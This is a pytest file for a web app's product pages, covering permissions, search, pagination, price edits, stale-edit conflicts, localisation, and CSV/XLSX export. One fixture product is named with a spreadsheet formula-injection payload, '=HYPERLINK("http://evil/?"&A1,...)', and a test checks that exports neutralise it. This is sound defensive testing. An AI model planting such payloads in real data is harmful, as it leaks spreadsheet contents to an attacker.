"""Product pages: list with search and filters, create, edit price and cost, deactivate and
reactivate, stale edits, CSV/XLSX export of the current filter."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from retento.products.models import Product
from tests.customers.test_versions import _edit_form
from tests.factories import make_product
from tests.web.conftest import Browser


@pytest.fixture
def web(client, users) -> Browser:
    return Browser(client)


def _catalogue(db):
    tea = make_product(db, name="Jasmine tea", external_id="TEA-001", category="tea")
    kettle = make_product(
        db, name="Kettle", external_id="KT-9", category="kitchen", unit_price=Decimal("40.00")
    )
    old = make_product(db, name="Old kettle", external_id="KT-1", category="kitchen")
    old.is_active = False
    evil = make_product(db, name='=HYPERLINK("http://evil/?"&A1,"x")', external_id="EV-1")
    db.commit()
    return tea, kettle, old, evil


def test_every_role_reads_the_list_and_only_managers_change(web, db, users):
    _catalogue(db)
    for role in ("admin", "manager", "agent", "analyst"):
        web.client.cookies.clear()
        web.login(role)
        page = web.get("/products")
        assert page.status_code == 200, role
        assert "Jasmine tea" in page.text and 'id="product-table"' in page.text
        assert page.text.count('class="active"') == 1  # one highlighted menu item
        changes = role in ("admin", "manager")
        assert ("/products/new" in page.text) is changes, role
        assert (web.get("/products/new").status_code == 200) is changes, role
        exports = role in ("admin", "manager", "analyst")
        assert ("/products/export.csv" in page.text) is exports, role
        assert ("/products/export.xlsx" in page.text) is exports, role
    # The agent may not export, post a product or deactivate one.
    web.client.cookies.clear()
    web.login("agent")
    assert web.get("/products/export.csv").status_code == 403
    assert web.get("/products/export.xlsx").status_code == 403
    new = {"name": "X", "unit_price": "1", "unit_cost": "1"}
    assert web.post("/products/new", new).status_code == 403
    tea = db.query(Product).filter_by(external_id="TEA-001").one()
    assert web.post(f"/products/{tea.id}/active", {"active": "0"}).status_code == 403


def test_search_by_name_sku_category_and_the_active_filter(web, db, users):
    tea, kettle, old, _ = _catalogue(db)
    web.login("manager")

    def names(query: str) -> set[str]:
        page = web.get("/products" + query)
        assert page.status_code == 200
        return set(
            re.findall(r'<tr id="product-\d+">\s*<td[^>]*>(?:<a [^>]*>)?([^<]+)<', page.text)
        )

    assert names("?q=jasmine") == {"Jasmine tea"}
    assert names("?q=kt-9") == {"Kettle"}
    assert names("?q=kitchen") == {"Kettle", "Old kettle"}
    assert names("?q=kettle&active=1") == {"Kettle"}
    assert names("?active=0") == {"Old kettle"}
    assert names("?category=tea") == {"Jasmine tea"}
    bad = web.get("/products?active=maybe")
    assert bad.status_code == 422 and "active" in bad.text
    assert web.get("/products?sort=price;drop").status_code == 422


def test_pagination_of_the_list(web, db, users):
    for n in range(55):
        make_product(db, name=f"Bulk {n:02d}", external_id=f"B{n:03d}")
    db.commit()
    web.login("manager")
    first = web.get("/products?q=bulk")
    assert first.text.count('<tr id="product-') == 50 and "offset=50" in first.text
    second = web.get("/products?q=bulk&offset=50")
    assert second.text.count('<tr id="product-') == 5 and "Bulk 54" in second.text


def test_create_refuses_a_third_decimal_naming_the_field_then_saves(web, db, users):
    web.login("manager")
    bad = web.post(
        "/products/new",
        {"name": "Oolong", "external_id": "TEA-2", "unit_price": "12.345", "unit_cost": "7"},
    )
    assert bad.status_code == 422 and 'id="product-form"' in bad.text
    assert 'id="e-unit_price"' in bad.text and 'id="e-unit_cost"' not in bad.text
    assert db.query(Product).filter_by(external_id="TEA-2").count() == 0
    ok = web.post(
        "/products/new",
        {"name": "Oolong", "external_id": "TEA-2", "category": "tea", "unit_price": "12.35",
         "unit_cost": "7"},
    )  # fmt: skip
    assert ok.status_code == 303
    p = db.query(Product).filter_by(external_id="TEA-2").one()
    assert (p.unit_price, p.unit_cost, p.is_active) == (Decimal("12.35"), Decimal("7.00"), True)
    assert "Product Oolong was created." in web.get(ok.headers["location"]).text


def test_create_names_missing_prices_and_speaks_chinese_about_bad_ones(web, db, users):
    """An empty price said "None is not a money amount"; the money checks spoke English only."""
    web.login("manager")
    bad = web.post("/products/new", {"name": "Oolong", "unit_price": "", "unit_cost": ""})
    assert bad.status_code == 422 and "None is not" not in bad.text
    errors = re.findall(r'class="field-error"[^>]*>([^<]*)<', bad.text)
    assert errors.count("This field is required.") == 2
    web.post("/locale", data={"lang": "zh_CN", "next": "/products"})
    bad = web.post(
        "/products/new", {"name": "Oolong", "unit_price": "1,000.005", "unit_cost": "Infinity"}
    )
    assert bad.status_code == 422 and "标价最多只能有两位小数。" in bad.text
    assert "单位成本必须是金额，例如 12.50。" in bad.text
    assert db.query(Product).filter_by(name="Oolong").count() == 0


def test_edit_price_and_cost_and_a_bad_cost(web, db, users):
    tea, *_ = _catalogue(db)
    web.login("manager")
    form = _edit_form(web, f"/products/{tea.id}/edit")
    assert form["version"] == "1" and form["unit_price"] == "10.00"
    bad = web.post(f"/products/{tea.id}/edit", {**form, "unit_cost": "-1"})
    assert bad.status_code == 422 and 'id="e-unit_cost"' in bad.text
    ok = web.post(f"/products/{tea.id}/edit", {**form, "unit_price": "11.50", "unit_cost": "6.25"})
    assert ok.status_code == 303
    db.expire_all()
    p = db.get(Product, tea.id)
    assert (p.unit_price, p.unit_cost, p.version) == (Decimal("11.50"), Decimal("6.25"), 2)


def test_a_stale_edit_gets_the_conflict_page(web, db, users, tokens):
    tea, *_ = _catalogue(db)
    web.login("manager")
    form = _edit_form(web, f"/products/{tea.id}/edit")
    r = web.client.patch(
        f"/api/v1/products/{tea.id}", json={"unit_price": "15.00"}, headers=tokens["admin"]
    )
    assert r.status_code == 200
    page = web.post(f"/products/{tea.id}/edit", {**form, "unit_price": "11.00"})
    assert page.status_code == 409 and "Someone else changed" in page.text
    row = re.search(r'<tr data-field="unit_price">(.*?)</tr>', page.text, re.S).group(1)
    assert "11.00" in row and "15.00" in row
    db.expire_all()
    assert db.get(Product, tea.id).unit_price == Decimal("15.00")


def test_deactivate_and_reactivate_with_the_version(web, db, users, tokens):
    tea, *_ = _catalogue(db)
    web.login("manager")
    r = web.post(f"/products/{tea.id}/active", {"active": "0", "version": "1"})
    assert r.status_code == 303
    db.expire_all()
    assert db.get(Product, tea.id).is_active is False
    assert "Jasmine tea was deactivated" in web.get("/products").text
    # A button shown before that change is stale now.
    stale = web.post(f"/products/{tea.id}/active", {"active": "0", "version": "1"})
    assert stale.status_code == 409
    assert (
        web.post(f"/products/{tea.id}/active", {"active": "x", "version": "2"}).status_code == 422
    )
    r = web.post(f"/products/{tea.id}/active", {"active": "1", "version": "2"})
    assert r.status_code == 303
    db.expire_all()
    assert db.get(Product, tea.id).is_active is True


def test_exports_follow_the_filter_and_neutralise_formulas(web, db, users):
    _catalogue(db)
    web.login("analyst")
    r = web.get("/products/export.csv?category=kitchen&active=1")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0][:4] == ["external_id", "name", "category", "unit_price"]
    assert rows[1:] == [["KT-9", "Kettle", "kitchen", "40.00", "6.00", "true"]]
    r = web.get("/products/export.csv?q=EV-1")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[1][1] == '\'=HYPERLINK("http://evil/?"&A1,"x")'
    x = web.get("/products/export.xlsx?q=ev-1")
    assert x.status_code == 200 and "spreadsheetml" in x.headers["content-type"]
    ws = load_workbook(io.BytesIO(x.content)).active
    values = list(ws.values)
    assert values[0][0] == "external_id" and len(values) == 2
    assert values[1][1].startswith("'=") and ws.cell(row=2, column=2).data_type != "f"
    assert values[1][3] == 10  # a number, not text
    assert web.get("/products/export.xlsx?active=nope").status_code == 422


def test_the_pages_speak_chinese(web, db, users):
    tea, *_ = _catalogue(db)
    web.login("manager")
    web.post("/locale", data={"lang": "zh_CN", "next": "/products"})
    page = web.get("/products")
    assert "产品" in page.text and "停用" in page.text and "导出" in page.text
    form = web.get(f"/products/{tea.id}/edit")
    assert "标价" in form.text and "单位成本" in form.text


def test_xlsx_cells_keep_numbers_localise_times_and_drop_control_characters():
    from datetime import UTC, datetime
    from zoneinfo import ZoneInfo

    from retento.dataio.downloads import xlsx_cell

    shanghai = ZoneInfo("Asia/Shanghai")
    assert xlsx_cell(Decimal("-5.00"), shanghai) == Decimal("-5.00")  # a number, not neutralised
    assert xlsx_cell("-5", shanghai) == "-5"  # text that is only a number: no formula
    assert xlsx_cell("-5+A1", shanghai) == "'-5+A1"  # text that looks like a formula
    assert xlsx_cell("bell\x07 and\x00 nul", shanghai) == "bell and nul"
    local = xlsx_cell(datetime(2025, 1, 1, 20, tzinfo=UTC), shanghai)
    assert local == datetime(2025, 1, 2, 4) and local.tzinfo is None
    assert xlsx_cell({"a": 1}, shanghai) == '{"a": 1}'
